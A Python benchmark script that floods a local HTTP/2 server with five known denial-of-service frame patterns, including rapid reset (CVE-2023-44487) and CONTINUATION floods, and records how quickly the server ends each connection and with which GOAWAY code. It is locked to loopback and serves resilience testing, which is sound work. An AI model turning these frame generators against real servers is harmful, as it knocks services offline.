"""Attacks an HTTP/2 listener with legal frames: a port in, how long each connection lasted out.

    python bench/flood.py KIND --port P --key KEY --seconds S

KIND is one of those in `KINDS`. It opens one connection after the other, by prior knowledge, sends
as fast as it may, and opens the next when the server has ended it. A connection that stands after
five seconds counts as not ended. Only for a server of one's own, on loopback: it knows no other
address. Prints one JSON line: seconds from the first flooding frame to the end of each connection,
and how often its GOAWAY had which error code (11 is ENHANCE_YOUR_CALM, RFC 9113 section 7).
"""

import argparse
import json
import select
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

__all__ = ["KINDS", "attack", "block", "goaway"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_HEADERS = 4
BATCH = 50  # frames of one send
PATIENCE = 5.0
REST = 0.02


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 section 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(key: str) -> bytes:
    """The head of a request, as literals that are not indexed (RFC 7541 section 6.2.2)."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":authority": "127.0.0.1",
        ":path": "/v1/chat/completions",
        "authorization": f"Bearer {key}",
        "content-type": "application/json",
    }
    return b"".join(literal(name, value) for name, value in fields.items())


def literal(name: str, value: str) -> bytes:
    """One field; both texts are shorter than 127 bytes."""
    return b"".join([b"\0", *(bytes([len(text)]) + text.encode() for text in (name, value))])


def resets(head: bytes) -> Iterator[bytes]:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    for stream in range(1, 1 << 31, 2):
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(
            RST_STREAM, 0, stream, struct.pack(">I", 8)
        )


def continuations(head: bytes) -> Iterator[bytes]:
    """One head that never ends (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, head)
    while True:
        yield frame(CONTINUATION, 0, 1, literal("x-more", "and more"))


def pings(head: bytes) -> Iterator[bytes]:
    """PING that each want an answer (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, b"flooding")


def settings(head: bytes) -> Iterator[bytes]:
    """SETTINGS that each want an answer (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, 0, 0)


def empties(head: bytes) -> Iterator[bytes]:
    """DATA without data (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, head)
    while True:
        yield frame(DATA, 0, 1)


KINDS: dict[str, Callable[[bytes], Iterator[bytes]]] = {
    "resets": resets,
    "continuations": continuations,
    "pings": pings,
    "settings": settings,
    "empties": empties,
}


@dataclass(slots=True)
class Attack:
    """One connection: seconds until the server ended it, None when it did not, and the error code
    of its GOAWAY, None without one."""

    lasted: float | None = None
    code: int | None = None


def attack(port: int, frames: Iterator[bytes]) -> Attack:
    """Floods until the end, or for so long as there is patience."""
    found, heard = Attack(), bytearray()
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as line:
        line.sendall(PREFACE + frame(SETTINGS, 0, 0))
        line.setblocking(False)
        begun, waiting = time.monotonic(), b""
        while (taken := time.monotonic() - begun) < PATIENCE:
            readable, writable, _ = select.select([line], [line], [], 0.1)
            try:
                if readable:
                    data = line.recv(1 << 16)
                    heard += data
                    found.code = goaway(heard) if found.code is None else found.code
                    if not data:
                        found.lasted = taken
                        return found
                if writable:
                    waiting = waiting or b"".join(next(frames) for _ in range(BATCH))
                    waiting = waiting[line.send(waiting) :]
            except BlockingIOError:
                continue
            except OSError:
                # Reset, or closed for writing: what was said before may still be there.
                found.lasted = time.monotonic() - begun
                with suppress(OSError):
                    heard += line.recv(1 << 16)
                found.code = goaway(heard) if found.code is None else found.code
                return found
    return found


def goaway(heard: bytearray) -> int | None:
    """The error code of the first GOAWAY among whole frames, which are taken out."""
    while len(heard) >= 9 and len(heard) >= (size := 9 + int.from_bytes(heard[:3], "big")):
        kind, payload = heard[3], bytes(heard[9:size])
        del heard[:size]
        if kind == GOAWAY:
            return int.from_bytes(payload[4:8], "big")
    return None


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--key", required=True)
    parser.add_argument("--seconds", type=float, default=5.0)
    given = parser.parse_args()
    head, until = block(given.key), time.monotonic() + given.seconds
    made: list[Attack] = []
    while time.monotonic() < until:
        made.append(attack(given.port, KINDS[given.kind](head)))
        time.sleep(REST)
    ended = [one.lasted for one in made if one.lasted is not None]
    codes = Counter(str(one.code) for one in made)
    print(json.dumps({"ended": ended, "stood": len(made) - len(ended), "codes": codes}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
